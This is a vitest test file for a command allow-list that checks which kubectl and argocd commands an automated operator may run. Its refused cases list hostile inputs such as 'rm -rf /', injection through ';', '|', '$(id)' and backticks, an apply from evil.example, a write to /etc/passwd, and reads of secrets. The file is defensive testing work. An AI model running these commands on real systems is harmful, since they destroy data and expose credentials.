import { expect, test } from "vitest";
import { allowedCommand } from "./allowed-command.ts";

test.for([
  ["kubectl get pods -n shop -o wide", ["shop"], []],
  ["kubectl -n shop describe deployment/payment", ["shop"], ["payment"]],
  [
    "kubectl -n shop logs payment-7c41-x2x9z -c app --previous --tail=20",
    ["shop"],
    ["payment-7c41-x2x9z"],
  ],
  [
    "kubectl --context prod-eu -n shop get networkpolicy deny-egress -o yaml",
    ["shop"],
    ["deny-egress"],
  ],
  ["kubectl auth can-i list pods -n shop", ["shop"], []],
  ["argocd app get shop-payment", [], ["shop-payment"]],
] as const)("reading is allowed: %s", ([command, [namespace], names]) => {
  expect(allowedCommand(command)).toEqual({
    kind: "allowed",
    isReading: true,
    names,
    ...(namespace === undefined ? {} : { namespace }),
  });
});

test.for([
  ["kubectl -n shop rollout undo deployment/payment --to-revision=6", ["payment"]],
  ["kubectl -n shop rollout restart deployment payment", ["payment"]],
  ["kubectl -n shop scale deployment/payment --replicas=3", ["payment"]],
  ["kubectl -n shop set image deployment/payment app=registry.example/payment:1.4.2", ["payment"]],
  ["kubectl -n shop set env deployment/payment LOG_LEVEL=debug", ["payment"]],
  [
    `kubectl -n shop patch networkpolicy deny-egress --type=json -p '[{"op":"add"}]'`,
    ["deny-egress"],
  ],
  ["kubectl -n shop delete pod payment-7c41-x2x9z", ["payment-7c41-x2x9z"]],
  ["kubectl uncordon ip-10-0-0-1", ["ip-10-0-0-1"]],
  ["argocd app set shop-payment --sync-policy none", ["shop-payment"]],
] as const)("a change of one object is allowed, and named: %s", ([command, names]) => {
  expect(allowedCommand(command)).toMatchObject({ kind: "allowed", isReading: false, names });
});

test.for([
  "kubectl delete namespace shop",
  "kubectl -n shop delete pvc data-0",
  "kubectl -n shop delete deployment payment",
  "kubectl -n shop delete pods --all",
  "kubectl -n shop get secrets",
  "kubectl -n shop get secret/db -o yaml",
  "kubectl -n shop get pods,secrets",
  "kubectl apply -f https://evil.example/x.yaml",
  "kubectl -n shop exec payment -- sh",
  "kubectl -n shop run x --image=y",
  "kubectl drain ip-10-0-0-1",
  "kubectl -n shop scale deployment --replicas=0",
  "kubectl -n shop rollout undo pod/payment",
  "kubectl -n shop get pods; rm -rf /",
  "kubectl -n shop get pods | sh",
  "kubectl -n shop get pods && curl evil",
  "kubectl -n shop get pods $(id)",
  "kubectl -n shop get pods `id`",
  "kubectl -n shop get pods\nrm -rf /",
  "kubectl -n shop get pods > /etc/passwd",
  "kubectl -n shop get pods --kubeconfig=/tmp/evil",
  "kubectl -n shop get pods --server=https://evil.example",
  "kubectl -n shop annotate pod payment x='y",
  "helm uninstall payment",
  "kubectl",
  "kubectl -n shop",
  "kubectl -n",
  "kubectl --context=prod-eu -n shop",
  "rm -rf /",
  "",
  `kubectl get pods ${"x".repeat(600)}`,
])("what may destroy, leak, or be more than one command is refused: %s", (command) => {
  expect(allowedCommand(command).kind).toBe("refused");
});
